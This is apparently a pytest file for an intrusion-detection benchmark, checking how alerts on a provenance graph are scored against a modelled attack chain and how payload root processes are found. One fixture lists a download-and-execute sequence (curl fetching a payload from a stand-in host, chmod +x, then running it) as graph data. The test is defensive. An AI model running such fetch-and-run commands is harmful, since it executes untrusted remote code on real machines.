"""Helpers of benchmarks/apt_eval.py: chain levels, root processes, spread."""

import math
import sys
from pathlib import Path

import numpy as np
import pandas as pd
import pytest

from riskscope.graph.schema import ProvenanceGraph

sys.path.insert(0, str(Path(__file__).resolve().parents[2] / "benchmarks"))
apt_eval = pytest.importorskip("apt_eval")

P, F = "process", "file"


def _chain(alert, labels, root, edges, types):
    ei = np.array(edges).T
    return apt_eval.chain_levels(ei, len(types), np.array(types, dtype=object),
                                 np.array(alert), np.array(labels), np.array(root))


# sh(0) -> payload(1) -> tar(2) -> gzip(3); payload -> creds file(4); 5: a benign file
EDGES = [(0, 1), (1, 2), (2, 3), (1, 4), (0, 5)]
TYPES = [P, P, P, P, F, F]
LABELS = [False, True, True, True, True, False]
ROOT = [False, True, False, False, False, False]


def test_chain_levels_nested():
    c = _chain([False, True, True, True, False, False], LABELS, ROOT, EDGES, TYPES)
    assert c["root"] and c["chain"] and c["chain_strict"] and c["chain_2hop"]
    assert c["attack_processes"] == 3 and c["attack_processes_alerted"] == 3
    # gzip not alerted, but next to the alerted tar: chain holds, strict chain does not
    c = _chain([False, True, True, False, False, False], LABELS, ROOT, EDGES, TYPES)
    assert (c["root"], c["chain"], c["chain_strict"], c["chain_2hop"]) == (
        True, True, False, True)
    # only the payload: gzip is 2 hops away (2-hop holds) and not next to a true alert
    c = _chain([False, True, False, False, False, False], LABELS, ROOT, EDGES, TYPES)
    assert (c["root"], c["chain"], c["chain_2hop"]) == (True, False, True)


def test_chain_needs_the_root_and_true_alerts():
    # tar and gzip alerted, payload not: everything is adjacent, but the root is missed
    c = _chain([False, False, True, True, False, False], LABELS, ROOT, EDGES, TYPES)
    assert not c["root"] and not c["chain"] and c["chain_2hop"]
    # a false alert on the benign shell does not make the chain
    c = _chain([True, False, False, False, False, False], LABELS, ROOT, EDGES, TYPES)
    assert not c["chain"]


def test_chain_levels_false_when_root_pruned_away():
    c = _chain([True] * 6, LABELS, [False] * 6, EDGES, TYPES)
    assert c["root_processes"] == 0
    assert not any(c[k] for k in apt_eval.CHAIN_LEVELS)


def test_root_mask_runs_of_the_payload_only():
    g = ProvenanceGraph.from_frames(
        pd.DataFrame({"id": list("abcde"), "type": [P] * 5,
                      "name": ["/bin/sh", "/usr/bin/curl", "/usr/bin/chmod", "/d/pay",
                               "/usr/bin/python3"],
                      "cmdline": ["sh run.sh", "curl -s -o /d/pay http://x/pay",
                                  "chmod +x /d/pay", "/d/pay", "python3 /d/imp.py"]}),
        pd.DataFrame({"src": [0, 0, 0, 0], "dst": [1, 2, 3, 4], "type": ["start"] * 4,
                      "ts": [1, 2, 3, 4]}))
    got = apt_eval.root_mask(g, {"processes": ["/d/pay", "/d/imp.py"]})
    assert got.tolist() == [False, False, False, True, True]


def test_truth_path_and_mean_sd():
    assert apt_eval.truth_path(Path("/s/test/driveby/007.log")) == Path(
        "/s/test/driveby/007.truth.json")
    m, s = apt_eval.mean_sd([0.5, 1.0, float("nan")])
    assert m == pytest.approx(0.75) and s == pytest.approx(math.sqrt(0.125))
    assert apt_eval.mean_sd([2.0]) == (2.0, 0.0)
    assert all(math.isnan(x) for x in apt_eval.mean_sd([float("nan")]))
